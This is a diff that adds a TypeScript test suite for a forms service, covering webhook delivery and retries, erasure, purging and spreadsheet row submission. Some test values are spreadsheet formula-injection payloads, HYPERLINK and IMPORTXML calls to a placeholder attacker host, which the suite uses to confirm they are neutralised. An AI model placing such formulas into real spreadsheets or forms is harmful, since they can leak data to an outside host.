@@ -1,0 +1,207 @@
+import { sendSheetRow, submitForm } from '@pahiya/contracts/forms/form-contracts';
+import { fixedForms } from '@pahiya/domain/forms/form-definition';
+import { err, ok } from '@pahiya/domain/shared/result';
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { createTestBrowser } from '../../../../test/contract-browser.ts';
+import { createTestApi, type TestApi } from '../../../../test/test-api.ts';
+import { createTestDatabase, type TestDatabase } from '../../../db/test-database.ts';
+import { TRIES_AT_MOST } from '../../../tasks/retry-delay.ts';
+import { testHandlers } from '../../../tasks/test-handlers.ts';
+import { createWorkLoop } from '../../../tasks/work-loop.ts';
+import { formTasks } from '../form-tasks.ts';
+import { purgeForms } from '../purge-forms.ts';
+import { seedForms } from '../seed/seed-forms.ts';
+
+const now = new Date('2026-11-21T04:44:00Z');
+const hours = (count: number) => new Date(now.getTime() + count * 60 * 60 * 1000);
+let database: TestDatabase;
+let api: TestApi;
+
+beforeAll(async () => {
+  database = await createTestDatabase();
+});
+beforeEach(async () => {
+  await database.sql`truncate users, forms, form_submissions, deliveries, tasks, rate_limits cascade`;
+  await seedForms(database.sql, now);
+  api = await createTestApi(database.sql);
+});
+afterAll(async () => {
+  await api.close();
+  await database.drop();
+});
+
+const values = {
+  name: 'Asha Rao',
+  email: 'asha@example.in',
+  topic: 'other',
+  message: '=HYPERLINK("https://evil.example")',
+};
+const send = (over = {}) =>
+  createTestBrowser(api).call(submitForm, {
+    params: { formId: fixedForms.contact },
+    body: { version: 1, values, consents: ['answer'], ...over },
+  });
+const lead = (over = {}) =>
+  createTestBrowser(api).call(sendSheetRow, {
+    params: { name: 'leads' },
+    body: {
+      values: { name: 'Asha', mobile: '9876543210', service: 'loan' },
+      consents: ['call'],
+      ...over,
+    },
+  });
+const work = () => createWorkLoop(api.services, testHandlers(formTasks)).drain();
+const down = () =>
+  err({ kind: 'unavailable', provider: 'webhook', retryable: true, reason: 'scripted' } as const);
+const rows = (table: string) => database.sql`select * from ${database.sql(table)}`;
+
+describe('a submission', () => {
+  test('reaches the webhook whole, with its id, once', async () => {
+    const { submissionId } = (await send()).data;
+    await work();
+    await work();
+    expect(api.sinks.arrived).toMatchObject([
+      {
+        sink: 'webhook',
+        sentAt: now.toISOString(),
+        payload: {
+          type: 'form.submitted',
+          submissionId,
+          formId: fixedForms.contact,
+          version: 1,
+          values,
+          consents: [{ id: 'answer', isGiven: true }],
+        },
+      },
+    ]);
+    expect(await rows('tasks')).toEqual([]);
+    expect(await rows('deliveries')).toMatchObject([{ delivered_at: now, body_sealed: null }]);
+  });
+
+  test('nothing is lost and nothing doubled by id while the webhook is down and comes back', async () => {
+    api.sinks.answer = down;
+    const sent = new Set<string>();
+    for (let place = 0; place < 8; place += 1) {
+      const answer = await send({ values: { ...values, message: `No. ${place}` } });
+      sent.add(answer.data.submissionId);
+      await work();
+    }
+    expect(api.sinks.arrived).toEqual([]);
+    // It comes back, but every second answer is lost after the message was taken.
+    let tries = 0;
+    api.sinks.answer = (message) => {
+      tries += 1;
+      if (tries % 2 === 0) return ok(undefined);
+      api.sinks.arrived.push({ ...message, sink: 'webhook' });
+      return down();
+    };
+    for (let hour = 1; hour < 30; hour += 1) {
+      api.setNow(hours(hour));
+      await work();
+    }
+    const ids = new Map(
+      api.sinks.arrived.map(({ id, payload }) => [id, payload.submissionId as string]),
+    );
+    expect(api.sinks.arrived.length).toBeGreaterThan(8);
+    expect([...ids.values()].sort()).toEqual([...sent].sort());
+    expect(await rows('tasks')).toEqual([]);
+  });
+
+  test('a webhook that never answers is given up for an operator to see, and the submission stays', async () => {
+    api.sinks.answer = down;
+    await send();
+    for (let hour = 0; hour <= TRIES_AT_MOST; hour += 1) {
+      api.setNow(hours(hour * 2));
+      await work();
+    }
+    expect(await rows('tasks')).toMatchObject([
+      { kind: 'deliver', attempts: TRIES_AT_MOST, last_error: 'unavailable' },
+    ]);
+    expect((await rows('tasks'))[0]?.dead_at).not.toBeNull();
+    expect(await rows('form_submissions')).toHaveLength(1);
+  });
+
+  test('what was erased meanwhile is not sent', async () => {
+    await send();
+    await database.sql`delete from form_submissions`;
+    await work();
+    expect(api.sinks.arrived).toEqual([]);
+    expect(await rows('tasks')).toEqual([]);
+  });
+
+  test('notes of what was passed on go after a month', async () => {
+    await send();
+    await work();
+    api.setNow(hours(31 * 24));
+    expect((await purgeForms(api.services)).deliveries).toBe(1);
+  });
+});
+
+describe('without an address', () => {
+  beforeEach(async () => {
+    api = await createTestApi(database.sql, { sinks: {} });
+  });
+
+  test('a form is stored and nothing is noted for anybody', async () => {
+    expect((await send()).status).toBe(201);
+    expect([...(await rows('deliveries')), ...(await rows('tasks'))]).toEqual([]);
+  });
+
+  test('a spreadsheet says that it is closed, and keeps nothing', async () => {
+    const answer = await lead();
+    expect([answer.status, answer.problem.code]).toEqual([503, 'form/closed']);
+    expect(await rows('form_submissions')).toEqual([]);
+  });
+
+  test('an address that was taken away later is told to the operator', async () => {
+    const other = await createTestApi(database.sql);
+    await createTestBrowser(other).call(submitForm, {
+      params: { formId: fixedForms.contact },
+      body: { version: 1, values, consents: ['answer'] },
+    });
+    await work();
+    expect(await rows('tasks')).toMatchObject([{ last_error: 'not-configured' }]);
+    await other.close();
+  });
+});
+
+describe('a spreadsheet', () => {
+  test('takes a row by the rules of its form, with or without a version', async () => {
+    expect((await lead()).status).toBe(201);
+    expect((await lead({ version: 1 })).status).toBe(201);
+    expect((await lead({ version: 7 })).problem.code).toBe('form/changed');
+    expect((await lead({ consents: [] })).problem.errors).toMatchObject([
+      { path: 'body.consents.call' },
+    ]);
+    await work();
+    expect(api.sinks.arrived.map(({ sink }) => sink)).toEqual(['sheet-leads', 'sheet-leads']);
+  });
+
+  test('gets no formula to run', async () => {
+    const remark = '=IMPORTXML("https://evil.example/","//a")';
+    const answer = await createTestBrowser(api).call(sendSheetRow, {
+      params: { name: 'feedback' },
+      body: { values: { rating: '5', remark, page: '/' } },
+    });
+    expect(answer.status).toBe(201);
+    await work();
+    expect(api.sinks.arrived[0]?.payload.values).toMatchObject({ remark: `'${remark}` });
+  });
+
+  test('of another name is not there', async () => {
+    const answer = await createTestBrowser(api).call(sendSheetRow, {
+      params: { name: 'salaries' },
+      body: { values: {} },
+    });
+    expect(answer.problem.code).toBe('request/bad-input');
+  });
+
+  test('is closed to other sites', async () => {
+    const answer = await createTestBrowser(api).call(sendSheetRow, {
+      params: { name: 'leads' },
+      body: { values: {} },
+      headers: { 'sec-fetch-site': 'cross-site' },
+    });
+    expect(answer.problem.code).toBe('request/cross-site');
+  });
+});
